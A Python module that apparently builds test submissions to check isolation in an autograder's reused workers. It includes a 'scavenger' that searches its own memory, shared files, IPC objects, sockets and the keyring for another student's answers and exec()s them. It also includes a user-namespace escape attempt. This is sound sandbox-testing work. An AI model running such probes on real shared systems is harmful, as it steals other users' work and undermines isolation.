"""Corpus of the isolation class: state that outlives a submission in a warm worker (issue 12).

Honest students carry a secret token in comments around every answer, so any copy of
their work that reaches another student is easy to find. A *planter* (honest, full
marks) also leaves its answers in every kernel object it can create: files in ``/tmp``,
``/dev/shm`` and ``/scratch``, System V shared memory and a message queue, a POSIX
message queue, an abstract unix socket served by a background process and a keyring
key. A *scavenger* graded after them (blank answers) looks for those answers in the
memory it inherited (``gc`` objects, all of ``/proc/self/mem``), in every file it can
read and in every one of those kernel objects, prints what it finds and runs every
answer it recovers as its own. A third submission tries to create a user namespace.
Submissions are graded in name order, so with one worker they share it in this order.

``write(course)`` returns student -> (expectation, honest score); the tokens are in
:data:`TOKENS` once written, the scavenger's report lines start with :data:`FOUND`.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

from .factory import correct_answers, points_per_answer, release_nb, submit

FIRST = "ps1-landmark-front-crest-answer"
PARTIAL = ["ps1-landmark-front-crest-answer", "ps1-sitting-movement-answer", "ps1-flexors-limit-extension-answer"]
FOUND = "ckiso-found"
USERNS = "ckiso-userns"
PREFIX = "iso-"  # student ids of this corpus (unique when the lead merges corpora into one batch)
SCAVENGER = PREFIX + "n-scavenger"
USERNS_STUDENT = PREFIX + "p-user-namespace"
PLANTER = PREFIX + "c-planter"
#: student -> the secret token in every answer cell of theirs (filled by :func:`write`)
TOKENS: dict[str, str] = {}

# The token pattern is split so that the scavenger's own source never matches it.
PLANT = r'''
import ctypes, os, socket, sys, time
_secret = DATA_LITERAL  # this student's answers, as written in the notebook
_add_key, _request_key, _keyctl = KEY_SYSCALLS
_libc = ctypes.CDLL(None, use_errno=True)
_rt = ctypes.CDLL("librt.so.1", use_errno=True)
_data = _secret.encode()[:3000]
_did = []
for _path in ["/tmp/ckiso-plant", "/dev/shm/ckiso-plant", "/scratch/ckiso-plant"]:
    try:
        open(_path, "wb").write(_data); _did.append(_path)
    except OSError as err:
        print("plant", _path, err)
_libc.shmat.restype = ctypes.c_void_p
_id = _libc.shmget(0x636b6973, 8192, 0o1666)
if _id >= 0:
    _at = _libc.shmat(_id, None, 0)
    ctypes.memmove(_at, _data, len(_data)); _did.append("sysv-shm")
_q = _libc.msgget(0x636b6973, 0o1666)
if _q >= 0:
    _buf = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + len(_data))
    ctypes.memmove(ctypes.addressof(_buf), ctypes.byref(ctypes.c_long(1)), ctypes.sizeof(ctypes.c_long))
    ctypes.memmove(ctypes.addressof(_buf) + ctypes.sizeof(ctypes.c_long), _data, len(_data))
    if _libc.msgsnd(_q, _buf, len(_data), 0o4000) == 0: _did.append("sysv-msg")
class _Attr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long), ("cur", ctypes.c_long), ("pad", ctypes.c_long * 4)]
_rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
_mq = _rt.mq_open(b"/ckiso-q", os.O_CREAT | os.O_RDWR, 0o666, ctypes.byref(_Attr(0, 4, 4096, 0)))
print("ckiso-plant mqueue", _mq, os.strerror(ctypes.get_errno()) if _mq < 0 else "created")
if _mq >= 0 and _rt.mq_send(_mq, _data[:4096], min(len(_data), 4096), 0) == 0: _did.append("mqueue")
_key = _libc.syscall(_add_key, b"user", b"ckiso", _data[:1000], min(len(_data), 1000), -4)  # add_key to @u
print("ckiso-plant keyring", _key, os.strerror(ctypes.get_errno()) if _key < 0 else "added")
if os.fork() == 0:
    try:
        os.setsid()
        _srv = socket.socket(socket.AF_UNIX); _srv.bind("\0ckiso-sock"); _srv.listen(4); _srv.settimeout(30)
        _end = time.time() + 30
        while time.time() < _end:
            try:
                _conn, _ = _srv.accept(); _conn.sendall(_data); _conn.close()
            except OSError:
                pass
    finally:
        os._exit(0)
time.sleep(0.3)
print("ckiso-plant done", sorted(_did))
'''

SCAVENGE = r'''
import ctypes, errno, gc, json, os, re, socket
_pat = re.compile(("# cki" + "so-s3cret-([a-z])-hon" + "est-([0-9a-f]{8}) begin\n(.{0,3000}?)\n# end").encode(), re.S)
_epat = re.compile(("# cki" + "so-s3cret-([a-z])-hon" + "est-([0-9a-f]{8}) begin\\\\n(.{0,6000}?)\\\\n# end").encode(), re.S)
_loot, _tokens, _found = [], set(), {}
def _search(channel, data):
    n = 0
    for m in _pat.finditer(data):
        _tokens.add(m.group(1).decode() + "-" + m.group(2).decode()); _loot.append(m.group(3).decode(errors="replace")); n += 1
    for m in _epat.finditer(data):
        try:
            _loot.append(json.loads(b'"' + m.group(3) + b'"')); n += 1
            _tokens.add(m.group(1).decode() + "-" + m.group(2).decode())
        except ValueError:
            pass
    _found[channel] = _found.get(channel, 0) + n
for _o in gc.get_objects():
    try:
        for _v in (_o.values() if isinstance(_o, dict) else _o if isinstance(_o, (list, tuple)) else ()):
            if isinstance(_v, str) and "honest" in _v:
                _search("gc", _v.encode(errors="replace"))
    except Exception:
        pass
_total = 0
class _Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
_vm = ctypes.CDLL(None, use_errno=True).process_vm_readv
_vm.restype = ctypes.c_ssize_t
_chunk = ctypes.create_string_buffer(16 << 20)
def _read_own(lo, hi):
    """Own memory without /proc/self/mem (root-owned in a non-dumpable process): process_vm_readv on ourselves."""
    out = []
    for at in range(lo, hi, 16 << 20):
        size = min(16 << 20, hi - at)
        local, remote = _Iov(ctypes.addressof(_chunk), size), _Iov(at, size)
        n = _vm(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n > 0:
            out.append(_chunk.raw[:n])
    return b"".join(out)
with open("/proc/self/maps") as _maps:
    for _line in _maps.read().splitlines():
        _lo, _hi = (int(x, 16) for x in _line.split()[0].split("-"))
        if "r" not in _line.split()[1] or _hi - _lo > (256 << 20) or _total > (1536 << 20) or "[v" in _line:
            continue
        _search("memory", _read_own(_lo, _hi)); _total += _hi - _lo
print("ckiso-memory-read", _total > (64 << 20))
for _root in ["/tmp", "/dev/shm", "/scratch", "/var/tmp", os.path.dirname(os.getcwd())]:
    for _dir, _dirs, _files in os.walk(_root):
        for _f in _files:
            try:
                with open(os.path.join(_dir, _f), "rb") as _h:
                    _search("files", _h.read(1 << 20))
            except OSError:
                pass
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_add_key, _request_key, _keyctl = KEY_SYSCALLS
_ids = []
for _kind in ("shm", "msg"):
    try:
        _ids += [(_kind, int(l.split()[1]), int(l.split()[0])) for l in open(f"/proc/sysvipc/{_kind}").read().splitlines()[1:]]
    except OSError:
        pass
for _key in (0x636b6973,):
    for _kind, _get in (("shm", lambda k: _libc.shmget(k, 0, 0)), ("msg", lambda k: _libc.msgget(k, 0))):
        _i = _get(_key)
        if _i >= 0: _ids.append((_kind, _i, _key))
for _kind, _i, _k in _ids:
    if _kind == "shm":
        _at = _libc.shmat(_i, None, 0o10000)
        if _at not in (None, ctypes.c_void_p(-1).value):
            _search("sysv", ctypes.string_at(_at, 8192))
    else:
        _buf = ctypes.create_string_buffer(16384)
        _n = _libc.msgrcv(_i, _buf, 16000, 0, 0o4000)
        if _n > 0: _search("sysv", _buf.raw[8:8 + _n])
_rt = ctypes.CDLL("librt.so.1", use_errno=True)
_rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
_names = ["ckiso-q"] + (os.listdir("/dev/mqueue") if os.path.isdir("/dev/mqueue") else [])
for _name in dict.fromkeys(_names):
    _mq = _rt.mq_open(("/" + _name).encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    _err = ctypes.get_errno()
    if _name == "ckiso-q":
        print("ckiso-mq-open", _mq, errno.errorcode.get(_err, _err) if _mq < 0 else "opened")
    if _mq >= 0:
        _buf = ctypes.create_string_buffer(1 << 16)
        _n = _rt.mq_receive(_mq, _buf, 1 << 16, None)
        if _n > 0: _search("mqueue", _buf.raw[:_n])
try:
    _s = socket.socket(socket.AF_UNIX); _s.settimeout(2); _s.connect("\0ckiso-sock"); _search("socket", _s.recv(1 << 16))
    print("ckiso-socket connected")
except OSError as err:
    print("ckiso-socket", type(err).__name__)
_kid = _libc.syscall(_request_key, b"user", b"ckiso", None, 0)  # request_key
print("ckiso-keyring", _kid, errno.errorcode.get(ctypes.get_errno(), "") if _kid < 0 else "found")
if _kid >= 0:
    _buf = ctypes.create_string_buffer(4096); _n = _libc.syscall(_keyctl, 11, _kid, _buf, 4096)  # KEYCTL_READ
    if _n > 0: _search("keyring", _buf.raw[:_n])
print("ckiso-found", json.dumps(_found, sort_keys=True), sorted(_tokens))
for _code in _loot:
    try:
        exec(_code, globals())
    except Exception:
        pass
'''

#: add_key, request_key, keyctl on the machines the sandbox knows
KEY_SYSCALLS = '{"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(os.uname().machine, (-1, -1, -1))'

USE_LOOT = "\nfor _code in _loot:\n    try:\n        exec(_code, globals())\n    except Exception:\n        pass\n"

USER_NAMESPACE = r'''
import ctypes, errno, os, subprocess
_libc = ctypes.CDLL(None, use_errno=True)
_r = _libc.unshare(0x10000000)  # CLONE_NEWUSER
print("ckiso-userns unshare", _r, errno.errorcode.get(ctypes.get_errno(), "") if _r else "ok", os.getuid())
if _r == 0:
    front_crest = "b"
_pid = os.fork()
if _pid == 0:
    os._exit(0 if _libc.unshare(0x10000000) == 0 else 1)
print("ckiso-userns fork-then-unshare", os.waitstatus_to_exitcode(os.waitpid(_pid, 0)[1]))
_done = subprocess.run(["unshare", "--user", "--map-root-user", "id", "-u"], capture_output=True, text=True)
print("ckiso-userns command", _done.returncode, repr(_done.stdout.strip()))
if _done.stdout.strip() == "0":
    sitting_movement = "flexion"
_k = _libc.syscall(KEY_SYSCALLS[0], b"user", b"ckiso", b"x", 1, -4)
print("ckiso-userns keyring", _k, errno.errorcode.get(ctypes.get_errno(), "") if _k < 0 else "added")
import sys
_worker_dirs = ("", ".", os.path.dirname(os.getcwd()), "/scratch")
print("ckiso-userns syspath", [p for p in sys.path[1:] if p in _worker_dirs])  # [0] is the job's own directory
'''

PLANT, SCAVENGE, USER_NAMESPACE = (code.replace("KEY_SYSCALLS", KEY_SYSCALLS) for code in (PLANT, SCAVENGE, USER_NAMESPACE))


def _token(student: str) -> str:
    return f"{student.removeprefix(PREFIX)[0]}-" + hashlib.sha256(student.encode()).hexdigest()[:8]


def _wrapped(student: str, answers: dict[str, str]) -> dict[str, str]:
    """``answers`` with each answer between two comments naming the student's secret token."""
    token = _token(student)
    TOKENS[student] = token
    head = "# cki" + "so-s3cret-" + token.replace("-", "-honest-", 1)
    return {gid: f"{head} begin\n{code}\n# end {token}" for gid, code in answers.items()}


def _stub(course: Path, gid: str) -> str:
    return next(c.source for c in release_nb(course).cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def write(course: Path) -> dict[str, tuple[str, float]]:
    """Write the corpus into ``course/submitted``; student -> (expectation, honest score)."""
    answers = correct_answers(course)
    points = points_per_answer(course)
    full, partial = sum(points.values()), sum(points[g] for g in PARTIAL)
    plan: dict[str, tuple[str, float]] = {}
    for letter in ("a", "z"):
        correct, some = f"{PREFIX}{letter}-honest-correct", f"{PREFIX}{letter}-honest-partial"
        submit(course, correct, answers=_wrapped(correct, answers))
        submit(course, some, answers=_wrapped(some, {g: answers[g] for g in PARTIAL}))
        plan |= {correct: ("exact", full), some: ("exact", partial)}
    planted = _wrapped(PLANTER, answers)
    last = list(planted)[-1]
    planted[last] += "\n" + PLANT.replace("DATA_LITERAL", repr("\n".join(planted.values())))
    submit(course, PLANTER, answers=planted)
    plan[PLANTER] = ("exact", full)
    scavenger = {gid: _stub(course, gid) + USE_LOOT for gid in answers}
    scavenger[FIRST] = _stub(course, FIRST) + "\n" + SCAVENGE
    submit(course, SCAVENGER, answers=scavenger)
    plan[SCAVENGER] = ("at_most", 0.0)
    submit(course, USERNS_STUDENT, answers={FIRST: _stub(course, FIRST) + "\n" + USER_NAMESPACE})
    plan[USERNS_STUDENT] = ("at_most", 0.0)
    return plan
